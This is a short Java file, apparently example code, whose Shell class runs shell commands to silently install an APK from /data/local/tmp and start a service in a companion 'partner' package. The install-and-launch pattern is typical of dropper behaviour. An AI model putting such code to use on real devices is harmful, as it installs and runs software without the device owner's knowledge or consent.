package cn.mingcha.example.dormant;

import java.io.IOException;

/** Installs and starts by command. */
class Shell {
    static void run() throws IOException {
        Runtime.getRuntime().exec("pm install -r /data/local/tmp/partner.apk");
        Runtime.getRuntime().exec("am startservice -n cn.mingcha.example.partner/.Work");
    }
}
